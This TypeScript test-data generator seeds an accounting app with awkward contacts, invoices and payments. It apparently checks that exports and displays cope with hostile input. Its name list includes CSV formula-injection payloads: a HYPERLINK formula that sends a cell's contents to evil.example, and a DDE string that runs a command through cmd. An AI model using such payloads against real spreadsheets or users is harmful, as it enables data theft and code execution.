/** Records as people really make them: formulas for names, four places in a price, a date from another century. */
import { dayOf } from '../json/wire-dates.ts';
import { add } from './company.ts';
import type { LineDraft } from './documents.ts';
import type { Making } from './generate.ts';
import { addBankTransaction } from './generate-bank-transactions.ts';
import { addInvoice, payFrom } from './generate-invoices.ts';
import type { Contact } from './rows.ts';
import { TAX_TYPE } from './tax-rates.ts';

/** Formula starts, quotes, line ends, right-to-left, astral characters, look-alike ids and numbers, 255 characters. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+64 21 555 0100 Plumbing',
  '-2+3 Tools',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'Quoted' Café & Söhne «Größe»",
  'Line one\nLine two\r\nand a\ttab',
  '株式会社サンプル',
  'شركة المثال المحدودة',
  'Māui & the 🦜 Parrot 👩‍👩‍👧 Co',
  '6f9619ff-8b86-d011-b42d-00cf4fc964ff',
  '00123.4500',
  '1E10',
  '2026-01-02',
  'TRUE',
  'C:\\Temp\\"books"\\2026/Q1',
  ' Leading and trailing spaces ',
  `Long ${'x'.repeat(250)}`,
  'Zero\u200bWidth \u202eesreveR',
];

export function addHostileRecords(making: Making): void {
  const { company, today, stamp } = making;
  const tax = TAX_TYPE[company.profile.countryCode];
  const contacts = HOSTILE_NAMES.map((name, at) =>
    add(company, 'contacts', {
      updatedAt: stamp(today - 30 - at),
      name,
      firstName: at % 3 === 0 ? '=1+1' : null,
      lastName: null,
      email: '',
      number: `000${at}`,
      accountNumber: null,
      taxNumber: null,
      currency: null,
      street: at % 2 === 0 ? '1 "High" Street\nRear building' : null,
      city: null,
      phone: at % 2 === 0 ? '+1 (555) 0100' : null,
      status: at === 4 ? 'ARCHIVED' : 'ACTIVE',
      isCustomer: true,
      isSupplier: at % 4 === 0,
    }),
  );
  const contact = (at: number) => contacts[at % contacts.length] as Contact;
  const line = (more: Partial<LineDraft> = {}): LineDraft => ({
    description: 'Odd one',
    quantity: 10_000,
    unit: 12_3400,
    account: company.account('sales'),
    taxType: tax.sales,
    ...more,
  });
  const invoice = (
    at: number,
    day: number,
    lines: LineDraft[],
    more: Partial<Parameters<typeof addInvoice>[1]> = {},
  ) =>
    addInvoice(making, {
      type: 'ACCREC',
      contact: contact(at),
      date: day,
      kind: 'Exclusive',
      status: 'AUTHORISED',
      number: `ODD-${at}`,
      reference: null,
      lines,
      ...more,
    });

  invoice(0, today - 40, [line({ description: 'D'.repeat(4000) })]);
  invoice(1, today - 39, [line({ unit: 1_0050, quantity: 3333 }), line({ unit: 3333, quantity: 70_000 })]);
  invoice(2, today - 38, [line({ unit: 0 })], { reference: 'Nothing to pay' });
  invoice(3, today - 37, [{ description: 'Words only' }, line(), { description: '' }]);
  invoice(4, today - 36, [line({ quantity: 100_000 }), line({ quantity: -10_000, description: 'Discount' })]);
  invoice(
    5,
    today - 35,
    [line({ description: '=1+1\n"quoted"', account: company.account('hostileRevenue') })],
    {
      reference: '\\/Date(1439434356790+0000)\\/',
    },
  );
  invoice(6, today - 34, [line()], { number: null, status: 'DRAFT' });
  invoice(7, today - 33, [line()], { number: '=INV+1' });
  invoice(8, today - 32, [line()], { number: '000123' });
  // A draft: as much as ten million, and out of the ledger, where it would drown the rest.
  invoice(9, today - 31, [line({ unit: 999_999_9900, quantity: 100_000 })], { status: 'DRAFT' });
  // Typing errors that stay in the books: before 1970, and the very day that is zero.
  const before1970 = invoice(10, dayOf(1969, 12, 31) as number, [line()], { number: 'OLD-1' });
  invoice(11, dayOf(1970, 1, 1) as number, [line()], { number: 'OLD-2' });
  invoice(12, dayOf(1926, 11, 20) as number, [line()], { number: 'OLD-3', status: 'VOIDED' });
  const paid = payFrom(company, before1970, {
    amount: 1,
    date: today - 3,
    updatedAt: stamp(today - 3),
    isReconciled: false,
    reference: '-1',
  });
  // Entered twice and deleted again: still listed, counted nowhere.
  const twice = add(company, 'payments', { ...company.payments.copy(paid), status: 'DELETED' });
  before1970.payments = [...before1970.payments, twice.index];
  invoice(13, today - 20, [line({ account: company.account('oldMarketing'), taxType: tax.purchases })], {
    type: 'ACCPAY',
    number: null,
  });
  addBankTransaction(company, {
    type: 'SPEND',
    account: company.account('card'),
    contact: contact(0).index,
    date: today - 10,
    reference: '@cmd',
    kind: 'Inclusive',
    lines: [
      line({ description: '+1', account: company.account('general'), taxType: tax.purchases, unit: 99_9950 }),
    ],
    updatedAt: stamp(today - 10),
    isReconciled: false,
  });
}
